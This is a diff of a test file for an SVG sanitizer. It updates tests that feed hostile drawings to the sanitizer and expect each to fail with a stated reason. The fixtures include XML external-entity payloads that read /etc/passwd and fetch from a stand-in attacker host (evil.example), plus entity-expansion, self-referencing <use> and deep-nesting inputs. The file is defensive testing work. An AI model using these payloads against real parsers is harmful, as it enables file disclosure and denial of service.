@@ -60,16 +60,27 @@ describe('a drawing that cannot be made safe is published as a download', () => 
     return `<g id="u${n}">${n === 19 ? '<path/>' : inner}</g>`;
   }).join('');
   test.each([
-    ['an external entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${ns}><text>&x;</text></svg>`],
-    ['a parameter entity', `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><svg ${ns}/>`],
-    ['entities of entities', `${lol}<svg ${ns}><text>&b;</text></svg>`],
-    ['uses of uses', `<svg ${ns}><defs>${uses}</defs><use href="#u0"/></svg>`],
-    ['a use of itself', `<svg ${ns}><g id="a"><use href="#a"/></g></svg>`],
-    ['nesting without end', `<svg ${ns}>${'<g>'.repeat(5000)}</svg>`],
-  ])('%s', async (_, text) => {
+    [
+      'an external entity',
+      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${ns}><text>&x;</text></svg>`,
+      'it declares an entity outside itself',
+    ],
+    [
+      'a parameter entity',
+      `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><svg ${ns}/>`,
+      'it declares an entity outside itself',
+    ],
+    ['entities of entities', `${lol}<svg ${ns}><text>&b;</text></svg>`, 'it declares entities that build on others'],
+    [
+      'uses of uses',
+      `<svg ${ns}><defs>${uses}</defs><use href="#u0"/></svg>`,
+      'its <use> elements unpack to more than 200000 elements',
+    ],
+    ['a use of itself', `<svg ${ns}><g id="a"><use href="#a"/></g></svg>`, 'its <use> elements refer to themselves'],
+    ['nesting without end', `<svg ${ns}>${'<g>'.repeat(5000)}</svg>`, 'it nests deeper than 256 elements'],
+  ])('%s', async (_, text, why) => {
     const { status, reason, svg } = await clean(text);
-    expect(status).toBe('failed');
-    expect(reason).toBeTruthy();
+    expect([status, reason]).toEqual(['failed', why]);
     expect(svg).toBe(`bin ${text}`);
   });
 });
